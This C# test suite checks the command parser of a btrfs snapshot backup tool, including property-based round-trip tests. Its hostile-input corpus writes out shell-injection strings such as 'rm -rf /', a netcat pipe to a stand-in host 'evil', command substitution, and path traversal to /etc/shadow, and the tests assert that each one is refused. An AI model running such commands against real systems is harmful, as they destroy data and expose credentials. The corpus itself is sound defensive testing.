using BtrfsSend.Core.Naming;
using BtrfsSend.Core.Protocol;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace BtrfsSend.Core.Tests.Protocol;

public sealed class CommandGrammarTests
{
    [Theory]
    [InlineData("hello", typeof(HelloRequest))]
    [InlineData("open-luks", typeof(OpenLuksRequest))]
    [InlineData("close-luks", typeof(CloseLuksRequest))]
    [InlineData("session", typeof(SessionRequest))]
    [InlineData("list prod-srv/rootfs", typeof(ListRequest))]
    [InlineData("list-received a", typeof(ListReceivedRequest))]
    [InlineData("prune-received a/b/c/d", typeof(PruneReceivedRequest))]
    [InlineData("get prod-srv/rootfs root-20240101T000000Z", typeof(GetRequest))]
    [InlineData("receive-stream prod-srv/rootfs root-20240102T030405Z full", typeof(ReceiveStreamRequest))]
    [InlineData("receive-stream prod-srv/rootfs root-20240102T030405Z incremental root-20240101T000000Z", typeof(ReceiveStreamRequest))]
    [InlineData("receive prod-srv/rootfs root-20240102T030405Z", typeof(ReceiveRequest))]
    [InlineData("receive prod-srv/rootfs root-20240102T030405Z root-20240101T000000Z", typeof(ReceiveRequest))]
    [InlineData("list 0.a_b-c/x", typeof(ListRequest))]
    public void Grammar_accepts_each_verb_and_renders_it_back_unchanged(string raw, Type expected)
    {
        var result = CommandGrammar.Parse(raw);

        Assert.True(result.IsValid, result.Error);
        Assert.IsType(expected, result.Request);
        Assert.Equal(raw, result.Request.ToCommandLine());
    }

    [Fact]
    public void Grammar_reads_the_tokens_of_an_incremental_into_typed_values()
    {
        var result = CommandGrammar.Parse("receive-stream prod-srv/rootfs root-20240102T030405Z incremental root-20240101T000000Z");

        var request = Assert.IsType<ReceiveStreamRequest>(result.Request);
        Assert.Equal("prod-srv/rootfs", request.Set.Value);
        Assert.Equal(new DateTime(2024, 1, 2, 3, 4, 5, DateTimeKind.Utc), request.Snapshot.TimestampUtc);
        Assert.True(request.IsIncremental);
        Assert.Equal("root-20240101T000000Z", request.Parent?.Value);
    }

    [Theory]
    [InlineData("", ErrorCodes.BadCommand, "empty")]
    [InlineData(" hello", ErrorCodes.BadCommand, "starts or ends with a space")]
    [InlineData("hello ", ErrorCodes.BadCommand, "starts or ends with a space")]
    [InlineData("list  a", ErrorCodes.BadCommand, "two spaces")]
    [InlineData("list\ta", ErrorCodes.BadCommand, "\\x09")]
    [InlineData("hello\n", ErrorCodes.BadCommand, "\\x0a")]
    [InlineData("hello\r", ErrorCodes.BadCommand, "\\x0d")]
    [InlineData("hello\0", ErrorCodes.BadCommand, "\\x00")]
    [InlineData("hello\x7f", ErrorCodes.BadCommand, "\\x7f")]
    [InlineData("h\u00e9llo", ErrorCodes.BadCommand, "\\xe9")]
    [InlineData("Hello", ErrorCodes.BadCommand, "unknown command 'Hello'")]
    [InlineData("HELLO", ErrorCodes.BadCommand, "unknown command")]
    [InlineData("prune a", ErrorCodes.BadCommand, "unknown command 'prune'")]
    [InlineData("check", ErrorCodes.BadCommand, "unknown command 'check'")]
    [InlineData("hello world", ErrorCodes.BadCommand, "no arguments")]
    [InlineData("close-luks now", ErrorCodes.BadCommand, "no arguments")]
    [InlineData("session hello", ErrorCodes.BadCommand, "no arguments")]
    [InlineData("Session", ErrorCodes.BadCommand, "unknown command 'Session'")]
    [InlineData("list", ErrorCodes.BadCommand, "1 argument, got 0 arguments")]
    [InlineData("list a b", ErrorCodes.BadCommand, "got 2 arguments")]
    [InlineData("get a", ErrorCodes.BadCommand, "2 arguments, got 1 argument")]
    [InlineData("receive-stream a root-20240101T000000Z", ErrorCodes.BadCommand, "allowed: receive-stream")]
    [InlineData("receive-stream a root-20240101T000000Z full root-20231231T000000Z", ErrorCodes.BadCommand, "unexpected token 'root-20231231T000000Z'")]
    [InlineData("receive-stream a root-20240101T000000Z full uuid=X", ErrorCodes.BadCommand, "uuid must be a lowercase uuid")]
    [InlineData("receive-stream a root-20240101T000000Z full proto=3", ErrorCodes.BadCommand, "proto must be 1 or 2")]
    [InlineData("receive-stream a root-20240101T000000Z full proto=1", ErrorCodes.BadCommand, "defaults and are not written")]
    [InlineData("receive-stream a root-20240101T000000Z full compression=none", ErrorCodes.BadCommand, "defaults and are not written")]
    [InlineData("receive-stream a root-20240101T000000Z full compression=gzip", ErrorCodes.BadCommand, "compression must be none or zstd")]
    [InlineData("receive-stream a root-20240101T000000Z full proto=2 uuid=0b8f7c1e-2d3a-4b5c-9d8e-1f2a3b4c5d6e", ErrorCodes.BadCommand, "repeated or out of order")]
    [InlineData("receive-stream a root-20240101T000000Z full proto=2 proto=2", ErrorCodes.BadCommand, "repeated or out of order")]
    [InlineData("receive-stream a root-20240101T000000Z full parent-uuid=0b8f7c1e-2d3a-4b5c-9d8e-1f2a3b4c5d6e", ErrorCodes.BadCommand, "only allowed for an incremental")]
    [InlineData("receive-stream a root-20240101T000000Z full version=1.0;reboot", ErrorCodes.BadCommand, "version must be")]
    [InlineData("receive-stream a root-20240101T000000Z full --uuid=0b8f7c1e-2d3a-4b5c-9d8e-1f2a3b4c5d6e", ErrorCodes.BadCommand, "unexpected token")]
    [InlineData("receive-stream a root-20240101T000000Z incremental proto=2", ErrorCodes.BadCommand, "allowed: receive-stream")]
    [InlineData("receive-stream a root-20240101T000000Z incremental", ErrorCodes.BadCommand, "allowed: receive-stream")]
    [InlineData("receive-stream a root-20240101T000000Z Full", ErrorCodes.BadCommand, "kind 'Full'")]
    [InlineData("receive-stream a root-20240101T000000Z diff root-20231231T000000Z", ErrorCodes.BadCommand, "kind 'diff'")]
    [InlineData("receive a", ErrorCodes.BadCommand, "receive <set> <snapshot> [<parent>]")]
    [InlineData("receive a root-20240102T000000Z root-20240101T000000Z x", ErrorCodes.BadCommand, "unexpected token 'x'")]
    [InlineData("list ../etc", ErrorCodes.BadSet, "'../etc'")]
    [InlineData("list /etc", ErrorCodes.BadSet, "absolute")]
    [InlineData("list A", ErrorCodes.BadSet, "must start with a-z or 0-9")]
    [InlineData("list a/b/c/d/e", ErrorCodes.BadSet, "5 segments")]
    [InlineData("list .a", ErrorCodes.BadSet, "starts with a dot")]
    [InlineData("list --help", ErrorCodes.BadSet, "must start with a-z or 0-9")]
    [InlineData("get a root", ErrorCodes.BadSnapshot, "does not end in -yyyyMMddTHHmmssZ")]
    [InlineData("get a root-20241301T000000Z", ErrorCodes.BadSnapshot, "not a valid UTC time")]
    [InlineData("get a -20240101T000000Z", ErrorCodes.BadSnapshot, "does not end in")]
    [InlineData("get a ..-20240101T000000Z", ErrorCodes.BadSnapshot, "starts with a dot")]
    [InlineData("receive-stream a root-20240101T000000Z incremental root", ErrorCodes.BadSnapshot, "parent: snapshot name 'root'")]
    [InlineData("receive-stream a root-20240101T000000Z incremental root-20240101T000000Z", ErrorCodes.BadParent, "is the snapshot itself")]
    [InlineData("receive-stream a root-20240101T000000Z incremental home-20231231T000000Z", ErrorCodes.BadParent, "has prefix 'home'")]
    [InlineData("receive-stream a root-20240101T000000Z incremental root-20240101T000001Z", ErrorCodes.BadParent, "not earlier")]
    [InlineData("receive a root-20240101T000000Z root-20240101T000000Z", ErrorCodes.BadParent, "is the snapshot itself")]
    [InlineData("receive a root-20240101T000000Z root-20250101T000000Z", ErrorCodes.BadParent, "not earlier")]
    public void Grammar_refuses_with_a_code_and_a_message_naming_the_problem(string raw, string code, string fragment)
    {
        var result = CommandGrammar.Parse(raw);

        Assert.False(result.IsValid);
        Assert.Equal(code, result.ErrorCode);
        Assert.Contains(fragment, result.Error, StringComparison.Ordinal);
        AssertOnePrintableLine(result.Error);
    }

    [Fact]
    public void Grammar_refuses_null_without_throwing()
    {
        var result = CommandGrammar.Parse(null);

        Assert.Equal(ErrorCodes.BadCommand, result.ErrorCode);
    }

    [Fact]
    public void Grammar_accepts_exactly_1024_bytes_and_refuses_1025()
    {
        // A full set of 4 x 64 characters is 259 bytes; pad with a long valid snapshot prefix
        // to reach the limit through real tokens.
        var set = string.Join('/', Enumerable.Repeat(new string('a', 64), 4));
        var atLimit = $"list {set}";
        Assert.True(CommandGrammar.Parse(atLimit).IsValid);

        var exactly = "hello" + new string('x', CommandGrammar.MaxBytes - 5);
        var over = exactly + "x";

        Assert.Equal(ErrorCodes.BadCommand, CommandGrammar.Parse(exactly).ErrorCode);
        Assert.DoesNotContain("longer", CommandGrammar.Parse(exactly).Error, StringComparison.Ordinal);
        Assert.Contains("longer than 1024 bytes", CommandGrammar.Parse(over).Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Grammar_counts_utf8_bytes_not_characters()
    {
        // 1000 characters but 2000 bytes: refused for length, not only for the characters.
        var raw = new string('\u00e9', 1000);

        Assert.Contains("longer than 1024 bytes", CommandGrammar.Parse(raw).Error, StringComparison.Ordinal);
    }

    private static readonly string[] HostileCorpus =
    [
        "list a; rm -rf /",
        "list a;id",
        "list a | nc evil 1",
        "list a && reboot",
        "list a & id",
        "list $(id)",
        "list a$(id)",
        "list `id`",
        "list a`id`",
        "list a > /etc/passwd",
        "list a < /etc/shadow",
        "list a>b",
        "list ../../etc",
        "list a/../../b",
        "list a/..",
        "list /",
        "list /etc/passwd",
        "get a /etc/shadow-20240101T000000Z",
        "get a ../root-20240101T000000Z",
        "get a root-20240101T000000Z/../../x",
        "list a\0b",
        "hello\0",
        "hello\nlist a",
        "list a\nrm -rf /",
        "list a\r",
        "hello\r\n",
        "list\ta",
        "--help",
        "-o",
        "hello --help",
        "list -o",
        "list --set=a",
        "receive-stream --force a root-20240101T000000Z full",
        "get a -rf-20240101T000000Z",
        "\u0433et a root-20240101T000000Z",
        "l\u0131st a",
        "\uff48\uff45\uff4c\uff4c\uff4f",
        "\ufeffhello",
        "hello\u200b",
        "list a\u2044b",
        "list \u2024\u2024/etc",
        "list a\u00a0b",
        "\u202ehello",
        "list " + new string('a', 100 * 1024),
        new string('x', 100 * 1024),
        new string(' ', 2000),
        "sh -c id",
        "bash",
        "scp -t /",
        "rsync --server .",
        "sftp",
        "'hello'",
        "\"hello\"",
        "hello\\",
        "list a\\b",
        "list *",
        "list ~root",
        "list a{b,c}",
        "list $HOME",
        "list ${IFS}",
        "prune a",
        "prune-received --all",
        "receive-stream a root-20240101T000000Z full extra",
    ];

    public static TheoryData<string> HostileCommands => new(HostileCorpus);

    [Theory]
    [MemberData(nameof(HostileCommands))]
    public void Grammar_refuses_every_hostile_command_with_a_printable_message(string raw)
    {
        var result = CommandGrammar.Parse(raw);

        Assert.False(result.IsValid, $"accepted: {NameText.Printable(raw)}");
        Assert.Contains(result.ErrorCode, ErrorCodes.All);
        Assert.False(string.IsNullOrWhiteSpace(result.Error));
        AssertOnePrintableLine(result.Error);
        Assert.True(result.Error.Length < 600, $"message is {result.Error.Length} characters long");
    }

    [Fact]
    public void Grammar_refusals_read_well()
    {
        var messages = HostileCorpus
            .Where(raw => raw.Length < 200)
            .Select(raw => $"{NameText.Printable(raw)} => {CommandGrammar.Parse(raw).ErrorCode}: {CommandGrammar.Parse(raw).Error}")
            .ToList();

        Snapshooter.Xunit.Snapshot.Match(messages);
    }

    [Property(MaxTest = 500)]
    public Property Every_request_renders_to_a_line_that_parses_back_to_it()
        => Prop.ForAll(ProtocolGen.Request.ToArbitrary(), request =>
        {
            var line = request.ToCommandLine();
            var result = CommandGrammar.Parse(line);
            return result.IsValid && result.Request.Equals(request) && result.Request.ToCommandLine() == line;
        });

    [Property(MaxTest = 3000)]
    public Property Nothing_outside_the_grammar_is_accepted_and_every_refusal_is_one_printable_line()
        => Prop.ForAll(ProtocolGen.CommandLike.ToArbitrary(), raw =>
        {
            var result = CommandGrammar.Parse(raw);
            var holds = result.IsValid
                ? result.Request.ToCommandLine() == raw
                : ErrorCodes.All.Contains(result.ErrorCode) && IsOnePrintableLine(result.Error);
            return holds.Classify(result.IsValid, "accepted");
        });

    [Property(MaxTest = 2000)]
    public bool Arbitrary_strings_are_accepted_only_if_they_render_back_identically(string? raw)
    {
        var result = CommandGrammar.Parse(raw);
        return result.IsValid ? result.Request.ToCommandLine() == raw : IsOnePrintableLine(result.Error);
    }

    private static void AssertOnePrintableLine(string? message)
        => Assert.True(IsOnePrintableLine(message), $"not one printable line: {NameText.Printable(message ?? "(null)")}");

    private static bool IsOnePrintableLine(string? message)
        => !string.IsNullOrEmpty(message) && message.All(c => c is >= ' ' and <= '~');
}
